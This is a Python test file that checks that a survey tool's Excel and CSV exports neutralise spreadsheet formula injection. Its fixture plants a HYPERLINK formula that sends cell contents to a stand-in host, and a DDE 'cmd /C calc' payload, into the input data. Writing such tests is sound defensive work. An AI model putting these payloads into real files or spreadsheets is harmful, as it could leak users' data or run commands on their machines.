"""Input text never becomes a live formula in needs.xlsx or the CSVs (issue 8 §3)."""

import csv
import json
import shutil

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from surveil._cells import neutralise, neutralise_table
from surveil.cli.main import cli
from surveil.datasets import get_path

DEMO = get_path("synthetic")
CATALOGUE = DEMO.parent.parent / "catalogue.toml"
HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A2,"details")'
CALC = "=1+2+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    scenario = base / "scenario"
    shutil.copytree(DEMO.parent, scenario)
    border = json.loads((scenario / "border.geojson").read_text())
    for feature in border["features"]:
        feature["properties"]["section"] = HYPERLINK + " " + feature["properties"]["section"]
    (scenario / "border.geojson").write_text(json.dumps(border))
    catalogue = CATALOGUE.read_text(encoding="utf-8")
    assert catalogue.count('label_en = "') > 3
    catalogue = catalogue.replace('label_en = "', 'label_en = "' + CALC)
    (scenario / "catalogue.toml").write_text(catalogue, encoding="utf-8")
    out = base / "out"
    result = CliRunner().invoke(
        cli,
        [
            "assess",
            str(scenario / "scenario.toml"),
            *("--catalogue", str(scenario / "catalogue.toml"), "--out", str(out)),
        ],
    )
    assert result.exit_code == 0, result.output
    return out


def test_workbook_has_no_formula_cells(hostile_out):
    book = openpyxl.load_workbook(hostile_out / "needs.xlsx")
    formulas, texts = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert formulas == []
    assert any(t.startswith("'=1+2+cmd") for t in texts)
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)


def test_csv_text_cells_are_neutralised_and_numbers_kept(hostile_out):
    for name in ("segments.csv", "gaps.csv", "needs.csv"):
        with (hostile_out / name).open(newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        cells = [c for row in rows[1:] for c in row]
        bad = [c for c in cells if c.startswith(("=", "@", "\t", "\r", "\uff1d"))]
        assert bad == [], name
    segments = pd.read_csv(hostile_out / "segments.csv")
    assert segments["section"].str.startswith("'=HYPERLINK(").all()
    assert pd.api.types.is_float_dtype(segments["km_from"])
    needs = pd.read_csv(hostile_out / "needs.csv")
    assert needs["label"].str.startswith("'=1+2+cmd").any()


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", "\uff1dSUM(A1)", "\uff0b1", "\uff0d1"]
)
def test_formula_leading_text_gets_a_quote(text):
    assert neutralise(text) == "'" + text


def test_numbers_and_plain_text_are_left_alone():
    table = pd.DataFrame({"pd": [-0.5, 2.0], "name": ["-3 km", "Demo west"], "n": [-1, 2]})
    safe = neutralise_table(table)
    assert safe["pd"].tolist() == [-0.5, 2.0] and safe["n"].tolist() == [-1, 2]
    assert safe["name"].tolist() == ["'-3 km", "Demo west"]
    assert table["name"].tolist() == ["-3 km", "Demo west"]  # input not modified
